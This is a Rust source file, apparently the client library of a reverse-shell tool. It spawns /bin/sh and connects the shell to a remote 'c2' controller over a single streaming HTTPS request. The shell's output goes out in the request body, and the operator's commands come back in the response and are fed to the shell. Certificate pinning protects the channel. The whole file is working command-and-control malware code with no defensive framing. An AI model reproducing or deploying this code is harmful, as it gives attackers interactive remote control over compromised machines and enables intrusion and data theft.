//! A no-frills shell which connects back to the controller.
//!
//! The client opens a single bidirectional HTTPS request to `/io`: the
//! request body carries the shell's output, the response body carries the
//! operator's input. The server's certificate is verified solely by its
//! pinned public-key fingerprint.

mod shell;
mod verify;

pub use shell::CmdShell;
pub use verify::{decode_fingerprint, pinned_tls_config, PinnedCertVerifier};

use futures_util::StreamExt;
use thiserror::Error;
use tokio::io::AsyncWriteExt;

/// The path on the controller to which we connect.
pub const IO_PATH: &str = "/io";

/// Shell used when the caller supplies no argv.
pub const DEFAULT_SHELL: &str = "/bin/sh";

/// Errors that can occur in client-core operations
#[derive(Error, Debug)]
pub enum ClientError {
    /// No presented certificate matched the pinned fingerprint.
    #[error("no certificate with correct fingerprint found")]
    NoMatchingCertificate,

    /// The configured fingerprint isn't base64 SHA-256.
    #[error("invalid fingerprint: {0}")]
    InvalidFingerprint(String),

    /// HTTP-level failure talking to the controller.
    #[error("HTTP error: {0}")]
    Http(#[from] reqwest::Error),

    /// I/O error
    #[error("I/O error: {0}")]
    Io(#[from] std::io::Error),
}

/// Result type alias for client-core operations
pub type ClientResult<T> = Result<T, ClientError>;

/// Where to find the controller and how to trust it.
#[derive(Clone, Debug, Default)]
pub struct ConnConfig {
    /// Controller URL; its path should normally be [`IO_PATH`].
    pub c2: String,
    /// Base64-encoded SHA-256 hash of the server certificate's public key,
    /// as passed to `curl --pinnedpubkey`. The leading `sha256//` is
    /// optional; with no fingerprint the system trust store is used.
    pub fingerprint: Option<String>,
}

/// The simplest way to run a shell: wires `argv` (default `/bin/sh`) to the
/// controller at `c2` and runs it until either side is done.
pub async fn go_simple(c2: &str, fingerprint: Option<&str>, argv: &[String]) -> ClientResult<()> {
    let default_argv = [DEFAULT_SHELL.to_string()];
    let argv = if argv.is_empty() {
        &default_argv[..]
    } else {
        argv
    };
    let shell = CmdShell::spawn(argv)?;
    go(
        &ConnConfig {
            c2: c2.to_string(),
            fingerprint: fingerprint.map(str::to_string),
        },
        shell,
    )
    .await
}

/// Connects a spawned shell to the controller.
pub async fn go(conf: &ConnConfig, shell: CmdShell) -> ClientResult<()> {
    let client = match &conf.fingerprint {
        Some(fp) => reqwest::Client::builder()
            .use_preconfigured_tls(pinned_tls_config(fp)?)
            .build()?,
        None => reqwest::Client::new(),
    };

    let CmdShell {
        mut child,
        mut stdin,
        output,
    } = shell;

    tracing::debug!(c2 = %conf.c2, "connecting to controller");
    let resp = client
        .post(&conf.c2)
        .body(reqwest::Body::wrap_stream(output))
        .send()
        .await?;
    let mut input = resp.bytes_stream();

    // Shovel operator input into the shell until the stream or the shell
    // ends, whichever comes first.
    let copy_in = async {
        while let Some(chunk) = input.next().await {
            let chunk = chunk?;
            stdin.write_all(&chunk).await?;
            stdin.flush().await?;
        }
        Ok::<(), ClientError>(())
    };

    let exited = tokio::select! {
        status = child.wait() => Some(status?),
        res = copy_in => {
            res?;
            None
        }
    };

    match exited {
        Some(status) => tracing::debug!(?status, "shell exited"),
        None => {
            // Input stream is done; let the shell see EOF and finish up.
            drop(stdin);
            let status = child.wait().await?;
            tracing::debug!(?status, "shell exited after input closed");
        }
    }

    Ok(())
}
